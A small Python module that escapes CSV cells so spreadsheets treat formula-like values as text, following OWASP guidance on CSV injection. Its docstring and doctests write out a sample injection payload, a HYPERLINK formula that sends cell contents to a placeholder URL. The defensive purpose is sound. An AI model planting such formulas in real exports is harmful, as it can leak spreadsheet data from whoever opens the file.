"""Cells of CSV written for people, made safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
some take a leading tab or carriage return the same way): a label such as
``=HYPERLINK("http://…"&A1,"x")``, which the twin-town import could bring in, would run on
the officer's machine. Following OWASP's advice on CSV injection, such a cell is written
with a single quote in front, which the spreadsheet shows as text. Numbers, negative ones
included (a longitude ``-58.4``, a score), are left as they are: they run nothing.

>>> neutralise('=HYPERLINK("http://x"&A1,"x")')
'\\'=HYPERLINK("http://x"&A1,"x")'
>>> neutralise("-58.4"), neutralise("-2+3"), neutralise("@SUM(A1)"), neutralise("Morón")
('-58.4', "'-2+3", "'@SUM(A1)", 'Morón')
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: str) -> str:
    """``value`` with a leading single quote if a spreadsheet would run it as a formula."""
    if value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: list) -> list:
    """A row for ``csv.writer``: strings neutralised, numbers and None as they are.

    >>> safe_row(["=1+1", -3, None, "x"])
    ["'=1+1", -3, None, 'x']
    """
    return [neutralise(v) if isinstance(v, str) else v for v in values]
